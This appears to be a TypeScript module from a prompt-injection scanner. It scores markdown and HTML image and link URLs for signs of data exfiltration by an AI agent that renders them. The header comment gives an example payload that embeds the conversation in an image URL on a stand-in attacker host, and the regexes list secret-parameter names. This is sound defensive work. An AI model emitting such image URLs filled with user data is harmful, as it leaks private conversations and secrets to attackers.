/**
 * Markdown / HTML image exfiltration: an image the reading agent renders makes its client fetch
 * the URL, so `![](https://attacker/?q={conversation})` leaks whatever the agent fills in. Looks
 * at image and link URLs (case kept, so `?d=SECRET_DATA` placeholders are visible).
 */

// Up to the closing parenthesis, spaces included: `?q=[PASTE THE SECRET HERE]` is still one slot.
const MD_IMAGE = /!\[[^\]\n]{0,300}\]\(\s*<?(https?:\/\/[^)\n>]{1,2048})/gi;
const MD_LINK = /(?<!!)\[[^\]\n]{0,300}\]\(\s*<?(https?:\/\/[^)\n>]{1,2048})/gi;
const HTML_IMAGE = /<img\b[^<>]{0,300}?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s>]{1,2048})/gi;
const REFERENCE = /(?:^|\n)\s{0,3}\[[^\]\n]{1,100}\]:\s*<?(https?:\/\/[^\s>]{1,2048})/gi;

/** A slot the reading agent is asked to fill in: `{x}`, `[x]`, `<x>`, `${x}`, `%7Bx%7D`, `=DATA`, `=SECRET_HERE`, `=...`. */
const SLOT = /\{[^}]{1,60}\}|\[[^\]]{1,60}\]|<[^>]{1,60}>|%7B[^%]{1,60}%7D|%5B[^%]{1,60}%5D|%3C[^%]{1,60}%3E|\$\{?[A-Za-z_]{2,}/;
const NAMED_SLOT = /=(?:DATA|SECRET|TOKEN|PASSWORD|KEY|CONVERSATION|CHAT|HISTORY|SUMMARY|MEMORY|PROMPT|CONTEXT|MESSAGES?|EMAIL|INFO|INSERT|QUERY|USER|INPUT|PAYLOAD|CONTENT)[A-Z_]*(?![a-z0-9])|=\.\.\./;
const SENSITIVE_PARAM = /[?&](?:q|d|data|secret|token|key|pw|pass|password|conv|conversation|chat|history|summary|memory|prompt|context|msg|message|messages|email|info|payload|leak|exfil|c|p|x)=/i;
const MAX_URLS = 2_000;

function urlStrength(url: string, rendered: boolean): number {
  const withoutFragment = url.split('#')[0]!; // a fragment never reaches the server
  const q = withoutFragment.indexOf('?');
  const query = q >= 0 ? withoutFragment.slice(q) : '';
  const path = (q >= 0 ? withoutFragment.slice(0, q) : withoutFragment).replace(/^https?:\/\/[^/]+/, '');
  if (SLOT.test(query) || NAMED_SLOT.test(query) || SLOT.test(path)) return rendered ? 0.8 : 0.55;
  if (rendered && SENSITIVE_PARAM.test(query) && query.length > 3) return 0.15;
  return 0;
}

/**
 * Strength of EXFILTRATION from image and link URLs in `cased` (the text after NFKC, before
 * lower-casing). Images render without a click, so they count more than links.
 */
export function exfiltrationUrlStrength(cased: string): number {
  if (!/https?:\/\//i.test(cased)) return 0;
  let strength = 0;
  let seen = 0;
  for (const [pattern, rendered] of [[MD_IMAGE, true], [HTML_IMAGE, true], [REFERENCE, true], [MD_LINK, false]] as const) {
    for (const m of cased.matchAll(pattern)) {
      strength = Math.max(strength, urlStrength(m[1]!, rendered));
      if (strength >= 0.8 || ++seen >= MAX_URLS) return strength;
    }
  }
  return strength;
}
